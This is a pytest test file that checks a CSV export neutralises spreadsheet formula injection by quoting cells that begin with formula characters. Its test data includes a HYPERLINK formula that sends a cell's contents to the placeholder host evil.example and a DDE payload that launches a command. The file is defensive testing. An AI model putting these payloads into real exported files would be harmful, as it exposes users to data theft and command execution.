"""CSV files that no spreadsheet takes for a program."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from intake.rules.spreadsheets import safe
from intake.views.csv_file import csv_response

FORMULAS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("http://evil.example?"&A1)',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\uff1dcmd",
        "\uff0b1",
        "\uff0d1",
        "\uff20SUM",
        "  =1",
        "\u3000=1",
    ],
)
def test_cell_that_is_a_formula_becomes_text(typed: str) -> None:
    assert safe(typed) == f"'{typed}"


@pytest.mark.parametrize("cell", ["Ana", "O'Neil", "a=b", "", "2026-11-24", -5, 3.5, None])
def test_other_cells_stay_as_they_are(cell: str | float | None) -> None:
    assert safe(cell) == cell


@given(st.lists(st.text(max_size=30), min_size=1, max_size=4))
def test_no_cell_begins_with_a_formula_and_every_word_comes_back(row: list[str]) -> None:
    body = csv_response("calls", ["a"], [row]).get_data().decode("utf-8-sig")
    (_, back) = csv.reader(io.StringIO(body, newline=""))
    for typed, shown in zip(row, back, strict=True):
        assert shown in (typed, f"'{typed}")
        assert not shown.strip(" \u00a0\u3000\ufeff\u200b").startswith(tuple(FORMULAS))


def test_file_is_a_download_that_excel_reads() -> None:
    answer = csv_response("calls", ["Advocate", "Minutes"], [["Ana", 4.5], ["=1", -2]])
    assert answer.get_data() == '\ufeff"Advocate","Minutes"\r\n"Ana",4.5\r\n"\'=1",-2\r\n'.encode()
    assert answer.headers["Content-Disposition"] == 'attachment; filename="calls.csv"'
    assert answer.mimetype == "text/csv"
